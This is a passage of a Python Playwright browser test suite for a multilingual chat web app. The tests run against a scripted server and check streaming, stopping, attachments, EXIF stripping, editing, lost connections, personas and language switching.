"""The whole page in a real browser, against a scripted server: what a visitor does, and what goes over the wire."""

import asyncio
import base64
import io
import json
import re
import threading
import zipfile
from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor
from contextlib import contextmanager
from dataclasses import dataclass
from typing import Any
from urllib.parse import urlsplit

import pytest
from PIL import Image
from playwright.sync_api import Browser, Dialog, Locator, Page, expect

from chat_core import discovery
from chat_core.connections import Connection
from chat_core.personas import find
from chat_core.settings import Clocks, Settings
from chat_core.wire import JSON_SENTENCE
from chat_ui import responder
from chat_ui.layout import build_app
from chat_ui.texts import LANGUAGES, Language, t
from tests import scripted_server as play
from tests.on_page import (
    LOCALES,
    PATIENCE_MS,
    answers,
    assistant,
    attach,
    attached,
    begin_anew,
    box,
    choose_persona,
    connect,
    connect_button,
    english_words,
    fits,
    gated,
    hearing,
    held_back,
    inspect,
    note,
    option,
    pass_list,
    pencils,
    picture_file,
    questions,
    send,
    sent_picture,
    settled,
    shown_code,
    speaks_korean,
    switch_language,
    tab,
    text_file,
    toast,
    under,
    user,
    visit,
)
from tests.scripted_server import Exchange, Script, ScriptedServer

OWNER_KEY = "sk-owner-Q7mJ2nLx9TzKpWvB"
VISITOR_KEY = "sk-visitor-H4dR8sYc1GfUaEoN"
# Patient, so that no busy machine is taken for a silent server; a test about a time-out asks for ``Stage.hurried``.
CALM = Clocks(retry_pause=0.01)
ANSWER = "Hello there."


@dataclass(frozen=True)
class Stage:
    """A running app and the server that it talks to."""

    address: str
    server: ScriptedServer
    settings: Settings

    @contextmanager
    def hurried(self, clocks: Clocks) -> Iterator[None]:
        """What is asked while this lasts is waited for by these clocks."""
        object.__setattr__(self.settings, "clocks", clocks)
        try:
            yield
        finally:
            object.__setattr__(self.settings, "clocks", CALM)

    def plays(self, script: Script) -> None:
        """From now on the server plays this; what it got before is forgotten."""
        self.server.script = script
        self.server.requests.clear()
        self.server.all_requests.clear()
        self.server.asked.clear()

    @property
    def bodies(self) -> list[dict[str, Any]]:
        return [exchange.body for exchange in self.server.requests]

    @property
    def last_messages(self) -> list[dict[str, Any]]:
        return self.bodies[-1]["messages"]


@pytest.fixture(scope="module")
def stages() -> Iterator[Stage]:
    settings = Settings(clocks=CALM)
    with ScriptedServer() as server:
        app = build_app(settings, Connection("custom", server.base_url, OWNER_KEY))
        _, address, _ = app.page.launch(prevent_thread_lock=True, quiet=True, **app.launch_options)
        try:
            yield Stage(address, server, settings)
        finally:
            app.page.close()


@pytest.fixture
def stage(stages: Stage) -> Stage:
    """The app; the server answers ``ANSWER`` unless a test says otherwise."""
    stages.plays(play.answer("Hello", " there", "."))
    return stages


@pytest.fixture
def fresh(page: Page, stage: Stage, browser_thread: ThreadPoolExecutor) -> Page:
    """The app in a fresh page: for a test that turns controls, or counts the turns of the visit."""
    browser_thread.submit(visit, page, stage.address).result()
    return page


@pytest.fixture
def chat(lasting_pages: dict[Language, Page], stage: Stage, browser_thread: ThreadPoolExecutor) -> Page:
    """A new chat in the English page that goes on from test to test, for one that leaves the controls alone."""
    page = lasting_pages["en"]
    browser_thread.submit(cleared, page, stage.address).result()
    return page


def cleared(page: Page, address: str) -> None:
    """Bring a page back to an empty chat and an empty box; by opening it anew if a test has left it in the middle."""
    if page.locator("#message-box .submit-button").is_visible() and page.locator("#edit-banner").is_hidden():
        begin_anew(page)
        box(page).fill("")
        if attached(page).count() == 0 and toast(page).count() == 0:
            return
    visit(page, address)


@pytest.fixture(scope="module")
def lasting_pages(
    stages: Stage, browser: Browser, browser_thread: ThreadPoolExecutor
) -> Iterator[dict[Language, Page]]:
    """One page a language. It goes on from test to test: no failure may spoil it."""

    def open_all() -> dict[Language, Page]:
        pages: dict[Language, Page] = {code: browser.new_page(locale=LOCALES[code]) for code in LANGUAGES}
        for page in pages.values():
            visit(page, stages.address)
        return pages

    pages = browser_thread.submit(open_all).result()
    yield pages
    for page in pages.values():
        browser_thread.submit(page.close).result()


# --- sending, streaming, stopping -------------------------------------------------------------------------------------


def test_an_untouched_page_sends_four_fields_and_streams_what_comes(fresh: Page, stage: Stage) -> None:
    gate = threading.Event()
    stage.plays(gated(gate, "The first piece", " and the second."))
    box(fresh).fill("Hi")
    box(fresh).press("Enter")
    expect(answers(fresh)).to_have_text("The first piece")
    expect(box(fresh)).to_have_value("")
    assert not stage.server.requests[0].ended.is_set()
    gate.set()
    expect(answers(fresh)).to_have_text("The first piece and the second.")
    settled(fresh)
    assert stage.bodies == [
        {
            "model": "scripted-1",
            "messages": [user("Hi")],
            "stream": True,
            "stream_options": {"include_usage": True},
        }
    ]
    expect(note(fresh, "tokens")).to_be_visible()


def test_stop_closes_the_upstream_and_keeps_what_was_written(chat: Page, stage: Stage) -> None:
    stage.plays(play.in_turn(play.hold_after("Half an", " answer"), play.answer("Whole.")))
    box(chat).fill("Tell me")
    box(chat).press("Enter")
    expect(answers(chat)).to_have_text("Half an answer")
    chat.locator("#message-box .stop-button").click()
    assert stage.server.requests[0].closed.wait(PATIENCE_MS / 1000)
    settled(chat)
    expect(note(chat, t("en", "note.stopped.title"))).to_be_visible()
    expect(answers(chat)).to_have_text("Half an answer")
    expect(note(chat, "≈")).to_be_visible()
    send(chat, "Again")
    expect(answers(chat).last).to_have_text("Whole.")
    assert stage.last_messages == [user("Tell me"), assistant("Half an answer"), user("Again")]


def test_continue_after_the_length_limit_goes_on_in_the_same_bubble(chat: Page, stage: Stage) -> None:
    stage.plays(play.in_turn(play.answer("One, two,", finish="length"), play.answer(" three.")))
    send(chat, "Count")
    expect(note(chat, t("en", "note.length.title"))).to_be_visible()
    option(chat, t("en", "action.continue")).click()
    expect(answers(chat)).to_have_text("One, two, three.")
    settled(chat)
    expect(answers(chat)).to_have_count(1)
    expect(questions(chat)).to_have_count(1)
    assert stage.last_messages == [user("Count"), assistant("One, two,"), user(t("en", "continue.prompt"))]


# A redraw of the transcript, as far as the button is concerned: another node with the same words.
AT_REST = "document.querySelector('#chatbot').getAnimations({ subtree: true }).length === 0"


def hold(page: Page, button: Locator) -> None:
    """Press the mouse button and hold it, where nothing moves: a note slides open, and what is below moves with it."""
    button.hover()
    page.wait_for_function(AT_REST)
    button.hover()
    page.mouse.down()


REDRAWN = """(button) => {
  const again = button.cloneNode(true);
  again.addEventListener("click", () => (window.clicked = (window.clicked ?? 0) + 1));
  button.replaceWith(again);
}"""


def test_a_button_that_is_redrawn_or_moved_while_it_is_pressed_is_clicked_all_the_same(
    chat: Page, stage: Stage
) -> None:
    stage.plays(play.answer("One", finish="length"))
    send(chat, "Count")
    button = option(chat, t("en", "action.continue"))
    hold(chat, button)
    button.evaluate(REDRAWN)
    chat.mouse.up()
    assert chat.evaluate("window.clicked") == 1
    # Without a redraw there is one click, as ever.
    button.click()
    assert chat.evaluate("window.clicked") == 2
    # The page has moved under the pointer.
    hold(chat, button)
    button.evaluate("(button) => (button.style.translate = '0 300px')")
    chat.mouse.up()
    assert chat.evaluate("window.clicked") == 3
    button.evaluate("(button) => (button.style.translate = '')")
    # The pointer was drawn away.
    hold(chat, button)
    box(chat).hover()
    chat.mouse.up()
    # One that has gone for good is not clicked, and neither is what stands there now.
    hold(chat, button)
    button.evaluate("(button) => button.remove()")
    chat.mouse.up()
    assert chat.evaluate("window.clicked") == 3
    begin_anew(chat)
    assert len(stage.bodies) == 1


def test_retry_asks_once_more_and_undo_puts_the_message_back(chat: Page, stage: Stage) -> None:
    stage.plays(play.in_turn(play.answer("First."), play.answer("Second.")))
    attach(chat, picture_file())
    send(chat, "Describe")
    under(chat, "Retry").click()
    expect(answers(chat)).to_have_text("Second.")
    settled(chat)
    expect(questions(chat)).to_have_count(1)
    assert [len(body["messages"]) for body in stage.bodies] == [1, 1]
    assert stage.bodies[0] == stage.bodies[1]
    under(chat, "Undo").click()
    expect(box(chat)).to_have_value("Describe")
    expect(attached(chat)).to_have_count(1)
    expect(questions(chat)).to_have_count(0)
    expect(answers(chat)).to_have_count(0)


def test_two_enters_and_two_clicks_send_one_request(chat: Page, stage: Stage) -> None:
    box(chat).fill("Once")
    box(chat).focus()
    chat.keyboard.press("Enter")
    chat.keyboard.press("Enter")
    expect(answers(chat)).to_have_text(ANSWER)
    settled(chat)
    assert len(stage.bodies) == 1
    box(chat).fill("Twice")
    chat.locator("#message-box .submit-button").evaluate("button => { button.click(); button.click(); }")
    expect(answers(chat)).to_have_count(2)
    settled(chat)
    assert len(stage.bodies) == 2
    expect(questions(chat)).to_have_count(2)


def test_enter_inside_a_hangul_syllable_sends_nothing_and_then_one_whole_message(chat: Page, stage: Stage) -> None:
    box(chat).focus()
    keyboard = chat.context.new_cdp_session(chat)
    keyboard.send("Input.insertText", {"text": "안녕하세"})
    keyboard.send("Input.imeSetComposition", {"text": "요", "selectionStart": 1, "selectionEnd": 1})
    enter = {"key": "Enter", "code": "Enter", "text": "\r", "windowsVirtualKeyCode": 13}
    keyboard.send("Input.dispatchKeyEvent", {"type": "keyDown", **enter})
    keyboard.send("Input.dispatchKeyEvent", {"type": "keyUp", **enter})
    keyboard.send("Input.insertText", {"text": "요"})
    expect(box(chat)).to_have_value("안녕하세요")
    assert stage.bodies == []
    box(chat).press("Enter")
    expect(answers(chat)).to_have_text(ANSWER)
    settled(chat)
    assert [body["messages"] for body in stage.bodies] == [[user("안녕하세요")]]
    expect(box(chat)).to_have_value("")


# --- pictures and files -----------------------------------------------------------------------------------------------


PASTE_FILE = """(box, data) => {
    const bytes = Uint8Array.from(atob(data), (letter) => letter.charCodeAt(0));
    const transfer = new DataTransfer();
    transfer.items.add(new File([bytes], "pasted.png", { type: "image/png" }));
    box.dispatchEvent(new ClipboardEvent("paste", { clipboardData: transfer, bubbles: true, cancelable: true }));
}"""


def test_pictures_files_and_text_make_one_user_message_in_order(chat: Page, stage: Stage) -> None:
    attach(chat, text_file("notes.txt", "eggs\nmilk\n"), picture_file(color="teal"))
    pasted = base64.b64encode(picture_file(color="orange")["buffer"]).decode()
    box(chat).evaluate(PASTE_FILE, pasted)
    expect(attached(chat)).to_have_count(3)
    send(chat, "What do you see?")
    (message,) = stage.last_messages
    kinds = [part["type"] for part in message["content"]]
    assert kinds == ["image_url", "image_url", "text", "text"]
    uploaded, from_clipboard, file, text = message["content"]
    assert sent_picture(uploaded)[1].convert("RGB").getpixel((5, 5)) == (0, 128, 128)
    assert sent_picture(from_clipboard)[1].convert("RGB").getpixel((5, 5)) == (255, 165, 0)
    assert file["text"] == "notes.txt\n```\neggs\nmilk\n```"
    assert text["text"] == "What do you see?"
    # The same on the next turn, in history.
    send(chat, "And now?")
    assert stage.last_messages == [message, assistant(ANSWER), user("And now?")]


def test_a_picture_gives_away_neither_place_nor_owner(chat: Page, stage: Stage) -> None:
    photo = Image.new("RGB", (40, 20), "white")
    photo.putpixel((0, 0), (0, 0, 0))
    exif = Image.Exif()
    exif[0x0112] = 6  # to be turned by 90 degrees
    exif[0x013B] = "Hong Gildong"
    exif.get_ifd(0x8825).update({1: "N", 2: (37.0, 33.0, 59.0), 3: "E", 4: (126.0, 58.0, 40.0)})
    data = io.BytesIO()
    photo.save(data, "JPEG", exif=exif, comment=b"seoul-home", quality=95)
    assert b"Hong Gildong" in data.getvalue()
    attach(chat, {"name": "phone.jpg", "mimeType": "image/jpeg", "buffer": data.getvalue()})
    send(chat, "Where is this?")
    sent, pixels = sent_picture(stage.last_messages[0]["content"][0])
    assert pixels.size == (20, 40)
    assert dict(pixels.getexif()) == {}
    for secret in (b"Exif", b"Hong Gildong", b"seoul-home"):
        assert secret not in sent
    shown = chat.request.get(questions(chat).locator("img").get_attribute("src") or "").body()
    assert b"Hong Gildong" not in shown


def test_what_cannot_be_sent_stays_in_the_box_with_a_word_of_why(chat: Page, stage: Stage) -> None:
    archive = io.BytesIO()
    with zipfile.ZipFile(archive, "w") as packed:
        packed.writestr("inside.txt", "nothing")
    attach(chat, {"name": "trap.png", "mimeType": "image/png", "buffer": archive.getvalue()})
    box(chat).fill("Look at this")
    box(chat).press("Enter")
    expect(toast(chat)).to_contain_text(t("en", "error.bad_image.title", name="trap.png"))
    expect(toast(chat)).to_contain_text(t("en", "error.bad_image.not_a_picture"))
    expect(box(chat)).to_have_value("Look at this")
    expect(attached(chat)).to_have_count(1)
    expect(questions(chat)).to_have_count(0)
    assert stage.bodies == []
    chat.locator('#message-box [data-label="Remove file"]').click()
    expect(attached(chat)).to_have_count(0)
    send(chat, "Never mind")
    assert stage.last_messages == [user("Never mind")]


def test_a_long_paste_stays_text_and_is_sent_whole(chat: Page, stage: Stage) -> None:
    pasted = "가나다라 " * 1000
    box(chat).focus()
    box(chat).evaluate(
        """(box, text) => {
            const data = new DataTransfer();
            data.setData("text/plain", text);
            const paste = new ClipboardEvent("paste", { clipboardData: data, bubbles: true, cancelable: true });
            if (box.dispatchEvent(paste)) document.execCommand("insertText", false, text);
        }""",
        pasted + "끝",
    )
    expect(box(chat)).to_have_value(pasted + "끝")
    expect(attached(chat)).to_have_count(0)
    expect(chat.locator("#meter")).to_contain_text(re.compile(r"\d,\d{3} tokens"))
    box(chat).press("Enter")
    expect(answers(chat)).to_have_text(ANSWER)
    assert stage.last_messages == [user(pasted + "끝")]


# --- editing ----------------------------------------------------------------------------------------------------------


def test_an_earlier_question_with_a_picture_is_edited_in_the_box(chat: Page, stage: Stage) -> None:
    attach(chat, picture_file())
    send(chat, "What is it?")
    send(chat, "And then?")
    pencils(chat).first.click()
    expect(chat.locator("#edit-banner")).to_be_visible()
    expect(box(chat)).to_have_value("What is it?")
    expect(attached(chat)).to_have_count(1)
    chat.locator("#cancel-edit").click()
    expect(chat.locator("#edit-banner")).to_be_hidden()
    expect(box(chat)).to_have_value("")
    expect(attached(chat)).to_have_count(0)
    expect(questions(chat)).to_have_count(2)
    expect(answers(chat)).to_have_count(2)

    pencils(chat).first.click()
    expect(box(chat)).to_have_value("What is it?")
    expect(questions(chat)).to_have_count(2)
    box(chat).fill("What colour is it?")
    box(chat).press("Enter")
    expect(questions(chat)).to_have_count(1)
    expect(chat.locator("#edit-banner")).to_be_hidden()
    settled(chat)
    (message,) = stage.last_messages
    assert [part["type"] for part in message["content"]] == ["image_url", "text"]
    assert message["content"][1]["text"] == "What colour is it?"
    assert message["content"][0] == stage.bodies[0]["messages"][0]["content"][0]


def test_an_answer_is_edited_in_place_and_sent_as_edited(chat: Page, stage: Stage) -> None:
    send(chat, "Synonym of happy?")
    send(chat, "Of sad?")
    pencils(chat).nth(1).click()
    editor = chat.locator("#answer-text textarea")
    expect(editor).to_have_value(ANSWER)
    editor.fill("glad")
    chat.locator("#save-answer").click()
    expect(chat.locator("#answer-editor")).to_be_hidden()
    expect(answers(chat)).to_have_text(["glad", ANSWER])
    expect(questions(chat)).to_have_count(2)
    send(chat, "Of tired?")
    assert stage.last_messages == [
        user("Synonym of happy?"),
        assistant("glad"),
        user("Of sad?"),
        assistant(ANSWER),
        user("Of tired?"),
    ]


def test_an_answer_is_edited_beside_the_box(chat: Page, stage: Stage) -> None:
    send(chat, "First")
    send(chat, "Second")
    box(chat).fill("draft")
    pencils(chat).first.click()
    expect(box(chat)).to_have_value("First")
    # The box, with what is edited there, comes back after the answer's field.
    pencils(chat).nth(1).click()
    expect(chat.locator("#answer-editor")).to_be_visible()
    expect(chat.locator("#edit-banner")).to_be_hidden()
    chat.locator("#answer-text textarea").fill("edited")
    chat.locator("#save-answer").click()
    expect(answers(chat).first).to_have_text("edited")
    expect(chat.locator("#edit-banner")).to_be_visible()
    expect(box(chat)).to_have_value("First")
    chat.locator("#cancel-edit").click()
    expect(box(chat)).to_have_value("draft")
    # An answer that is edited when a new chat begins has nothing to do with the box.
    box(chat).fill("newer draft")
    pencils(chat).last.click()
    expect(chat.locator("#answer-editor")).to_be_visible()
    begin_anew(chat)
    expect(box(chat)).to_have_value("newer draft")


def test_an_edit_goes_on_after_a_retry_and_ends_with_an_undo(chat: Page, stage: Stage) -> None:
    send(chat, "First")
    send(chat, "Second")
    box(chat).fill("draft")
    pencils(chat).first.click()
    expect(box(chat)).to_have_value("First")
    stage.plays(play.answer("Again."))
    under(chat, "Retry").click()
    expect(answers(chat).last).to_have_text("Again.")
    settled(chat)
    expect(chat.locator("#edit-banner")).to_be_visible()
    expect(box(chat)).to_have_value("First")
    pencils(chat).nth(2).click()
    expect(box(chat)).to_have_value("Second")
    under(chat, "Undo").click()
    expect(questions(chat)).to_have_count(1)
    expect(chat.locator("#edit-banner")).to_be_hidden()
    expect(box(chat)).to_have_value("Second\n\ndraft")
    send(chat, "Third")
    assert stage.last_messages == [user("First"), assistant(ANSWER), user("Third")]


# --- messages that do not arrive --------------------------------------------------------------------------------------


@pytest.fixture
def taking(monkeypatch: pytest.MonkeyPatch) -> Iterator[threading.Event]:
    """Messages are not taken before this is set."""
    let_go = threading.Event()
    take = responder.user_content

    async def later(*asked: Any) -> Any:
        await asyncio.to_thread(let_go.wait, PATIENCE_MS / 1000)
        return await take(*asked)

    monkeypatch.setattr(responder, "user_content", later)
    yield let_go
    let_go.set()


@pytest.mark.parametrize("status", [413, 502], ids=["too large", "bad gateway"])
def test_a_message_that_the_server_does_not_take_comes_back(chat: Page, stage: Stage, status: int) -> None:
    send(chat, "Before")
    attach(chat, picture_file())
    chat.route("**/gradio_api/queue/join*", lambda route: route.fulfill(status=status, json={"detail": "No."}))
    box(chat).fill("What is it?")
    box(chat).press("Enter")
    expect(box(chat)).to_have_value("What is it?")
    expect(attached(chat)).to_have_count(1)
    settled(chat)
    chat.unroute("**/gradio_api/queue/join*")
    expect(questions(chat)).to_have_count(1)
    box(chat).press("Enter")
    expect(questions(chat)).to_have_count(2)
    settled(chat)
    assert [part["type"] for part in stage.last_messages[-1]["content"]] == ["image_url", "text"]


def test_words_that_were_sent_as_the_connection_was_lost_are_there_after_it(fresh: Page, stage: Stage) -> None:
    send(fresh, "Before")
    fresh.route("**/gradio_api/queue/join*", lambda route: route.abort("connectionfailed"))
    box(fresh).fill("Lost?")
    with fresh.expect_navigation():
        box(fresh).press("Enter")
    fresh.unroute("**/gradio_api/queue/join*")
    expect(box(fresh)).to_have_value("Lost?")
    send(fresh, "Not lost")
    assert stage.last_messages == [user("Not lost")]
    # Once is enough.
    fresh.reload()
    expect(box(fresh)).to_have_value("")


def test_a_message_that_is_stopped_while_it_is_taken_comes_back(
    chat: Page, stage: Stage, taking: threading.Event
) -> None:
    box(chat).fill("Wait for me")
    box(chat).press("Enter")
    expect(box(chat)).to_have_value("")
    chat.wait_for_timeout(300)  # it has reached the server
    box(chat).fill("and more")
    chat.locator("#message-box .stop-button").click()
    settled(chat)
    expect(box(chat)).to_have_value("Wait for me\n\nand more")
    expect(questions(chat)).to_have_count(0)
    taking.set()
    box(chat).press("Enter")
    settled(chat)
    expect(answers(chat)).to_have_text(ANSWER)
    assert stage.bodies == [{**stage.bodies[0], "messages": [user("Wait for me\n\nand more")]}]


def test_what_is_written_while_a_message_is_refused_stays(chat: Page, taking: threading.Event) -> None:
    attach(chat, text_file("broken.png", "no picture"))
    box(chat).fill("What is it?")
    box(chat).press("Enter")
    expect(attached(chat)).to_have_count(0)
    box(chat).fill("written meanwhile")
    taking.set()
    expect(toast(chat)).to_be_visible()
    expect(box(chat)).to_have_value("What is it?\n\nwritten meanwhile")
    expect(attached(chat)).to_have_count(1)
    settled(chat)


def test_stop_before_there_is_a_request_is_told(chat: Page, stage: Stage, monkeypatch: pytest.MonkeyPatch) -> None:
    reading = threading.Event()

    async def later(*_: Any, **__: Any) -> Any:
        reading.set()
        await asyncio.Event().wait()

    with monkeypatch.context() as patch:
        patch.setattr(responder, "read_transcript", later)
        box(chat).fill("Never mind")
        box(chat).press("Enter")
        expect(questions(chat)).to_have_text("Never mind")
        assert reading.wait(PATIENCE_MS / 1000)
        chat.locator("#message-box .stop-button").click()
        expect(note(chat, t("en", "note.stopped.title"))).to_be_visible()
        settled(chat)
    assert stage.bodies == []
    option(chat, t("en", "action.retry")).click()
    expect(answers(chat)).to_have_text(ANSWER)


# --- controls ---------------------------------------------------------------------------------------------------------


def test_json_mode_is_sent_and_what_it_adds_is_shown(fresh: Page, stage: Stage) -> None:
    stage.plays(play.answer('{"snake_case_key": ', "[1, 2]}"))
    fresh.locator("#json-mode input").check()
    send(fresh, "Two numbers")
    assert stage.bodies[0]["response_format"] == {"type": "json_object"}
    assert stage.last_messages[0] == {"role": "system", "content": JSON_SENTENCE}
    laid_out = json.dumps({"snake_case_key": [1, 2]}, indent=2)
    expect(answers(fresh).locator("pre code")).to_have_text(laid_out)
    expect(note(fresh, t("en", "note.adjusted.title"))).to_be_visible()
    send(fresh, "Three numbers")
    assert stage.last_messages[2] == assistant(laid_out)
    inspect(fresh)
    assert json.loads(shown_code(fresh, "inspect-body")) == stage.bodies[-1]
    expect(fresh.locator("#inspect-about")).to_contain_text(JSON_SENTENCE)
    fresh.get_by_role("tab").first.click()
    fresh.locator("#json-mode input").uncheck()
    send(fresh, "Plain again")
    assert "response_format" not in stage.bodies[-1]


def test_an_edited_system_prompt_stays_when_the_list_of_personas_is_only_passed(fresh: Page) -> None:
    prompt = fresh.locator("#system-prompt textarea")
    choose_persona(fresh, "Chef")
    chef = find("chef")
    assert chef is not None
    expect(prompt).to_have_value(chef.prompt.en)
    prompt.fill("Only soup.")
    pass_list(fresh, fresh.locator("#persona input"))
    send(fresh, "Hello")
    expect(prompt).to_have_value("Only soup.")
    trainer = find("trainer")
    assert trainer is not None
    choose_persona(fresh, trainer.name.en)
    expect(prompt).to_have_value(trainer.prompt.en)


def test_persona_and_temperature_go_along_on_every_turn_once_they_are_chosen(fresh: Page, stage: Stage) -> None:
    chef = find("chef")
    assert chef is not None
    choose_persona(fresh, chef.name.en)
    expect(fresh.locator("#system-prompt textarea")).to_have_value(chef.prompt.en)
    send(fresh, "Lunch?")
    send(fresh, "Dinner?")
    assert [body["messages"][0] for body in stage.bodies] == [{"role": "system", "content": chef.prompt.en}] * 2
    # The persona suggests a temperature; nobody asked for it to be sent.
    assert all("temperature" not in body for body in stage.bodies)
    fresh.locator("#own-temperature input").check()
    slider = fresh.locator('#temperature input[type="number"]')
    expect(slider).to_have_value("0.8")
    slider.fill("0.3")
    slider.press("Tab")
    fresh.locator("#system-prompt textarea").fill("You are terse.")
    send(fresh, "Breakfast?")
    assert stage.bodies[-1]["temperature"] == 0.3
    assert stage.last_messages[0] == {"role": "system", "content": "You are terse."}
    fresh.locator("#own-temperature input").uncheck()
    fresh.locator("#system-prompt textarea").fill("")
    send(fresh, "Supper?")
    assert "temperature" not in stage.bodies[-1]
    assert stage.last_messages[0]["role"] == "user"


def test_history_streaming_and_a_new_chat(fresh: Page, stage: Stage) -> None:
    everything, last_turns, nothing = (fresh.locator("#history label").nth(place) for place in range(3))
    for words in ("one", "two", "three"):
        send(fresh, words)
    assert stage.last_messages == [user("one"), assistant(ANSWER), user("two"), assistant(ANSWER), user("three")]
    last_turns.click()
    turns = fresh.locator('#history-turns input[type="number"]')
    turns.fill("1")
    turns.press("Tab")
    send(fresh, "four")
    assert stage.last_messages == [user("three"), assistant(ANSWER), user("four")]
    nothing.click()
    fresh.locator("#streaming input").uncheck()
    send(fresh, "five")
    assert stage.bodies[-1] == {"model": "scripted-1", "messages": [user("five")]}
    expect(answers(fresh).last).to_have_text(ANSWER)
    everything.click()
    fresh.locator("#streaming input").check()
    begin_anew(fresh)
    send(fresh, "six")
    assert stage.last_messages == [user("six")]
    assert stage.bodies[-1]["stream"] is True


def test_a_new_chat_ends_an_answer_that_is_on_its_way(chat: Page, stage: Stage) -> None:
    stage.plays(play.in_turn(play.hold_after("Half"), play.answer("Fresh.")))
    box(chat).fill("Old")
    box(chat).press("Enter")
    expect(answers(chat)).to_have_text("Half")
    begin_anew(chat)
    assert stage.server.requests[0].closed.wait(PATIENCE_MS / 1000)
    expect(questions(chat)).to_have_count(0)
    settled(chat)
    send(chat, "New")
    expect(answers(chat)).to_have_text("Fresh.")
    assert stage.last_messages == [user("New")]
    # What is said of the ended answer has no place in the new chat.
    expect(note(chat, t("en", "note.stopped.title"))).to_have_count(0)
    expect(chat.locator("#chatbot .thought-group")).to_have_count(1)


def test_a_message_is_answered_though_the_end_of_the_chat_before_it_is_slow(chat: Page, stage: Stage) -> None:
    stage.plays(play.in_turn(play.hold_after("Half"), play.answer("Fresh."), play.answer("Again.")))
    box(chat).fill("Old")
    box(chat).press("Enter")
    expect(answers(chat)).to_have_text("Half")
    with held_back(chat, "reset"):
        begin_anew(chat)
        send(chat, "New")
        expect(answers(chat)).to_have_text("Fresh.")
    send(chat, "More")
    expect(answers(chat).last).to_have_text("Again.")
    assert stage.last_messages == [user("New"), assistant("Fresh."), user("More")]
    expect(note(chat, t("en", "note.stopped.title"))).to_have_count(0)


def test_stop_ends_an_answer_that_began_before_the_end_of_the_last_chat(chat: Page, stage: Stage) -> None:
    stage.plays(play.in_turn(play.hold_after("Half"), play.hold_after("New half"), play.answer("Fresh.")))
    box(chat).fill("Old")
    box(chat).press("Enter")
    expect(answers(chat)).to_have_text("Half")
    with held_back(chat, "reset") as let_go:
        begin_anew(chat)
        box(chat).fill("New")
        box(chat).press("Enter")
        expect(answers(chat)).to_have_text("New half")
        let_go()
        chat.wait_for_timeout(300)  # for what Gradio does when the old answer's end is known
    chat.locator("#message-box .stop-button").click()
    assert stage.server.requests[1].closed.wait(PATIENCE_MS / 1000)
    expect(note(chat, t("en", "note.stopped.title"))).to_be_visible()
    send(chat, "More")
    expect(answers(chat).last).to_have_text("Fresh.")


def test_under_the_hood_shows_what_the_server_got(fresh: Page, stage: Stage) -> None:
    attach(fresh, picture_file())
    send(fresh, "Look")
    begin_anew(fresh)
    send(fresh, "그림 없이 <b>&</b>")
    inspect(fresh)
    assert json.loads(shown_code(fresh, "inspect-body")) == stage.bodies[1]
    response = json.loads(shown_code(fresh, "inspect-response"))
    assert response["choices"][0]["message"]["content"] == ANSWER
    assert response["usage"] == play.USAGE
    fresh.locator("#inspect-turn input").click()
    fresh.get_by_role("option", name=re.compile("^1 ")).click()
    expect(fresh.locator("#inspect-about")).to_contain_text(t("en", "inspect.shortened"))
    shown = json.loads(shown_code(fresh, "inspect-body"))
    part = shown["messages"][0]["content"].pop(0)
    sent = stage.bodies[0]
    url = sent["messages"][0]["content"].pop(0)["image_url"]["url"]
    assert shown == sent
    assert part["image_url"]["url"] == f"{url[:60]}… ({len(url):,} characters)"
    for code in ("inspect-curl", "inspect-python"):
        assert OWNER_KEY not in shown_code(fresh, code)


# --- words ------------------------------------------------------------------------------------------------------------


def test_the_language_is_switched_in_mid_chat(fresh: Page, stage: Stage) -> None:
    choose_persona(fresh, "Chef")
    send(fresh, "Hello")
    fresh.locator("#own-connection > button").click()
    fresh.locator("#own-temperature input").check()
    fresh.locator("#history label").nth(1).click()
    expect(fresh.locator("#history-turns")).to_be_visible()
    assert english_words(fresh) != []
    switch_language(fresh, "ko")
    expect(fresh.locator("html")).to_have_attribute("lang", "ko")
    expect(fresh.locator("#meter")).to_contain_text(t("ko", "meter.next"))
    expect(fresh.locator("#persona input")).to_have_value("요리사")
    expect(questions(fresh)).to_have_text("Hello")
    expect(answers(fresh)).to_have_text(ANSWER)
    speaks_korean(fresh)
    chef = find("chef")
    assert chef is not None
    send(fresh, "점심은?")
    assert stage.last_messages == [
        {"role": "system", "content": chef.prompt.ko},
        user("Hello"),
        assistant(ANSWER),
        user("점심은?"),
    ]
    expect(note(fresh, "토큰")).to_be_visible()
    for name, element in (
        ("describe", "#describe-start"),
        ("extract", "#extract-fields [data-row]"),
        ("usage", "#ledger table"),
        ("inspect", "#inspect-body a[download]"),
    ):
        tab(fresh, name).click()
        expect(tab(fresh, name)).to_have_attribute("aria-selected", "true")
        expect(fresh.locator(element)).to_be_attached()
        speaks_korean(fresh)
    switch_language(fresh, "en")
    expect(fresh.locator("#new-chat")).to_have_text(t("en", "chat.new"))


def test_a_connection_made_while_the_language_is_switched_is_shown_in_the_new_one(fresh: Page, stage: Stage) -> None:
    button = connect_button(fresh)
    fresh.locator("#api-key input").fill(VISITOR_KEY)
    fresh.locator("#base-url").locator("input, textarea").fill(stage.server.base_url)
    chip, about = fresh.locator("#top-connection"), fresh.locator("#about-model")
    with held_back(fresh, "queue/join"):
        button.click()
        switch_language(fresh, "ko")
        expect(about).to_contain_text(t("ko", "model.context_unknown"))
    expect(chip).to_have_text(t("ko", "connection.local", host=urlsplit(stage.server.base_url).netloc))
    expect(about).to_contain_text(t("ko", "model.context_unknown"))


def test_parameters_that_are_looked_at_but_left_empty_are_not_sent(fresh: Page, stage: Stage) -> None:
    fresh.locator("#more > button").click()
    expect(fresh.locator("#seed")).to_be_visible()
    fresh.locator("#pictures > button").click()
    expect(fresh.locator("#picture-links")).to_be_visible()
    send(fresh, "Hi")
    expect(answers(fresh)).to_have_text(ANSWER)
    assert set(stage.bodies[0]) == {"model", "messages", "stream", "stream_options"}
    for label, value in (("more.max_tokens", "200"), ("more.seed", "7"), ("more.top_p", "0.5")):
        field = fresh.get_by_label(t("en", label))
        field.fill(value)
        field.press("Tab")
    fresh.get_by_label(t("en", "more.stop")).fill("END\nSTOP")
    send(fresh, "Hi again")
    sent = {name: stage.bodies[1].get(name) for name in ("max_completion_tokens", "seed", "top_p", "stop")}
    assert sent == {"max_completion_tokens": 200, "seed": 7, "top_p": 0.5, "stop": ["END", "STOP"]}
    fresh.get_by_label(t("en", "more.max_tokens")).fill("")
    fresh.get_by_label(t("en", "more.seed")).fill("")
    fresh.get_by_label(t("en", "more.seed")).press("Tab")
    send(fresh, "Once more")
    assert not {"max_completion_tokens", "seed"} & set(stage.bodies[2])
    switch_language(fresh, "ko")
    speaks_korean(fresh)


def test_code_keeps_its_indentation(chat: Page, stage: Stage) -> None:
